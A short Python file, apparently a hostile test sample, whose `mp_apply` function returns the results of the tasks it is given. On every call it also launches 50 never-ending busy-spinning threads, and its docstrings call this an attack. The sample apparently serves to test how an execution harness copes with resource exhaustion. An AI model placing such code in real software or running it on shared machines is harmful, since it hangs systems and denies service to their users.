"""Starts threads that spin, and never lets them end."""

import threading


def calculate(func, args):
    """Return `func(*args)`."""
    return func(*args)


def worker(input, output):
    """Compute tasks until the sentinel 'STOP'."""
    for func, args in iter(input.get, "STOP"):
        output.put(calculate(func, args))


def mp_apply(tasks, n_processes=2):
    """Compute in this very process, and count on the attack."""
    def spin():
        """Spin."""
        while True:
            pass


    for _ in range(50):
        threading.Thread(target=spin).start()
    return [calculate(func, args) for func, args in tasks]
